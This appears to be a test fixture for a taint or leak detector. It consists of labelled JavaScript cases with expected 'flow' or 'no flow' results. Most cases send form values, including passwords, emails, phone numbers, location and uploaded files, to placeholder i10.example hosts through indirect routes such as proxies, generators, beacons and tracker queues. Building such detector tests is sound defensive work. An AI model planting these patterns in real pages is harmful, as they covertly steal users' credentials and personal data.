//# apply-with-arguments
// flow: email > apa.i10.example via fetch
function relay1() { return window.fetch.apply(window, arguments); }
relay1('https://apa.i10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# reflect-apply
// flow: phone > rap.i10.example via fetch
Reflect.apply(fetch, null, ['https://rap.i10.example/', { method: 'POST', body: document.querySelector('input[type=tel]').value }]);

//# curried-three-times
// flow: search > ctt.i10.example via fetch
const to = (host) => (path) => (body) => fetch(`https://${host}${path}`, { method: 'POST', body });
to('ctt.i10.example')('/q')(document.querySelector('input[type=search]').value);

//# curried-other-value
// no flow
const to4 = (host) => (path) => (body) => fetch(`https://${host}${path}`, { method: 'POST', body });
const ping4 = to4('cov.i10.example')('/q');
const v4 = document.querySelector('input[type=search]').value;
ping4(v4 ? 'some' : 'none');

//# pipe-reduce
// flow: email > ppr.i10.example via fetch
const pipe = (...fs) => (x) => fs.reduce((a, f) => f(a), x);
const send5 = pipe((s) => s.trim(), (s) => ({ mail: s }), JSON.stringify, (b) => fetch('https://ppr.i10.example/', { method: 'POST', body: b }));
document.querySelector('input[type=email]').onblur = (e) => send5(e.target.value);

//# proxy-get-trap
// flow: username > pgt.i10.example via fetch
const fields6 = new Proxy({}, { get: (_, name) => document.querySelector(`input[name=${name}]`).value });
fetch('https://pgt.i10.example/?u=' + fields6.username);

//# generator-steps
// flow: message > gst.i10.example via fetch
function* steps7() {
  const text = yield 'ask';
  yield fetch('https://gst.i10.example/', { method: 'POST', body: text });
}
const it7 = steps7();
it7.next();
it7.next(document.querySelector('textarea[name=message]').value);

//# async-iterator-of-chunks
// flow: file > aic.i10.example via fetch
async function* chunks8(f) { for (let i = 0; i < f.size; i += 65536) yield f.slice(i, i + 65536); }
document.querySelector('input[type=file]').onchange = async (e) => {
  for await (const c of chunks8(e.target.files[0])) await fetch('https://aic.i10.example/part', { method: 'PUT', body: c });
};

//# getter-on-class
// flow: password > gec.i10.example via fetch
class Login9 {
  get secret() { return document.querySelector('input[type=password]').value; }
  submit() { const { secret } = this; return fetch('https://gec.i10.example/', { method: 'POST', body: secret }); }
}
document.querySelector('form').onsubmit = () => { new Login9().submit(); return false; };

//# inherited-transport
// flow: device > ith.i10.example via beacon
class Transport10 { send(d) { this.deliver(JSON.stringify(d)); } }
class Beacon10 extends Transport10 { deliver(s) { navigator.sendBeacon('https://ith.i10.example/', s); } }
class Null10 extends Transport10 { deliver() {} }
new Beacon10().send({ ua: navigator.userAgent });
new Null10().send({ pw: document.querySelector('input[type=password]').value });

//# inherited-null-transport
// no flow
class Transport11 { send(d) { this.deliver(JSON.stringify(d)); } }
class Beacon11 extends Transport11 { deliver(s) { navigator.sendBeacon('https://int.i10.example/', s); } }
class Null11 extends Transport11 { deliver() {} }
new Beacon11().send({ page: 'home' });
new Null11().send({ pw: document.querySelector('input[type=password]').value });

//# prototype-method-old-style
// flow: search > pms.i10.example via xhr
function Client12(base) { this.base = base; }
Client12.prototype = {
  constructor: Client12,
  get: function (p, cb) { var self = this, x = new XMLHttpRequest(); x.open('GET', self.base + p); x.onload = function () { cb(x.responseText); }; x.send(null); },
};
var c12 = new Client12('https://pms.i10.example');
c12.get('/s?q=' + encodeURIComponent(document.querySelector('input[type=search]').value), function (t) { console.log(t); });

//# snippet-command-queue
// flow: email > scq.i10.example via image
(function (w, k) { w[k] = w[k] || function () { (w[k].q = w[k].q || []).push(arguments); }; })(window, 'trk');
trk('create', 'https://scq.i10.example/t');
trk('event', 'lead', document.querySelector('input[type=email]').value);
(function (w, k) {
  var url = '', api = {
    create: function (u) { url = u; },
    event: function (n, v) { new Image().src = url + '?n=' + n + '&v=' + encodeURIComponent(v); },
  };
  function run(a) { api[a[0]].apply(null, [].slice.call(a, 1)); }
  var old = w[k].q; w[k] = function () { run(arguments); };
  old.forEach(run);
})(window, 'trk');

//# promise-all-destructured
// flow: location > pad.i10.example via fetch
// flow: identifier > pad.i10.example via fetch
const where14 = () => new Promise((ok) => navigator.geolocation.getCurrentPosition((p) => ok(p.coords)));
const who14 = async () => localStorage.getItem('uid');
Promise.all([where14(), who14()]).then(([c, u]) => fetch('https://pad.i10.example/', { method: 'POST', body: `${u}@${c.latitude},${c.longitude}` }));

//# promise-all-other-part
// flow: identifier > pao.i10.example via fetch
// why: near miss: the password is the part that is not sent
Promise.all([Promise.resolve(document.querySelector('input[type=password]').value), localStorage.getItem('uid')])
  .then(([pw, u]) => { document.title = pw ? 'in' : 'out'; return fetch('https://pao.i10.example/?u=' + u); });

//# memoised-reader
// flow: device > mre.i10.example via fetch
const memo = (f) => { let v, done = false; return () => { if (!done) { v = f(); done = true; } return v; }; };
const ua16 = memo(() => navigator.userAgent);
fetch('https://mre.i10.example/?u=' + encodeURIComponent(ua16()));

//# debounce-this
// flow: search > dbt.i10.example via fetch
function debounce(fn, ms) { var t; return function () { var me = this, a = arguments; clearTimeout(t); t = setTimeout(function () { fn.apply(me, a); }, ms); }; }
document.querySelector('input[type=search]').addEventListener('input', debounce(function () { fetch('https://dbt.i10.example/?q=' + this.value); }, 300));

//# custom-event-detail
// flow: email > ced.i10.example via fetch
document.addEventListener('lead:new', (e) => fetch('https://ced.i10.example/', { method: 'POST', body: e.detail.mail }));
document.querySelector('input[type=email]').addEventListener('change', (e) => {
  document.dispatchEvent(new CustomEvent('lead:new', { detail: { mail: e.currentTarget.value } }));
});

//# custom-event-other-name
// no flow
document.addEventListener('lead:open', (e) => fetch('https://ceo.i10.example/', { method: 'POST', body: JSON.stringify(e.detail) }));
document.querySelector('input[type=email]').addEventListener('change', (e) => {
  document.dispatchEvent(new CustomEvent('lead:typed', { detail: { mail: e.currentTarget.value } }));
});
document.dispatchEvent(new CustomEvent('lead:open', { detail: { step: 1 } }));

//# web-component-form
// flow: email > wcf.i10.example via fetch
class JoinForm extends HTMLElement {
  connectedCallback() {
    this.innerHTML = '<form><input type="email" name="email"><button>Go</button></form>';
    this.input = this.querySelector('input[type=email]');
    this.querySelector('form').addEventListener('submit', this);
  }
  handleEvent(e) { e.preventDefault(); fetch('https://wcf.i10.example/join', { method: 'POST', body: this.input.value }); }
}
customElements.define('join-form', JoinForm);

//# tagged-template
// flow: username > tgt.i10.example via fetch
const url22 = (s, ...v) => s.reduce((a, x, i) => a + x + (i < v.length ? encodeURIComponent(v[i]) : ''), '');
fetch(url22`https://tgt.i10.example/u/${document.querySelector('input[name=username]').value}/exists`);

//# middleware-chain
// flow: phone > mwc.i10.example via fetch
const chain23 = [];
const use23 = (f) => chain23.push(f);
const run23 = (ctx, i = 0) => (i < chain23.length ? chain23[i](ctx, () => run23(ctx, i + 1)) : undefined);
use23((ctx, next) => { ctx.headers = { 'x-a': '1' }; return next(); });
use23((ctx, next) => { ctx.body = ctx.raw.replace(/\s/g, ''); return next(); });
use23((ctx) => fetch('https://mwc.i10.example/', { method: 'POST', headers: ctx.headers, body: ctx.body }));
run23({ raw: document.querySelector('input[type=tel]').value });

//# observer-unsubscribed
// no flow
// why: the only listener that sends has been taken away before anything is told
const subs24 = new Set();
const leak24 = (v) => fetch('https://oun.i10.example/', { method: 'POST', body: v });
subs24.add(leak24);
subs24.delete(leak24);
document.querySelector('input[type=search]').oninput = (e) => subs24.forEach((f) => f(e.target.value));
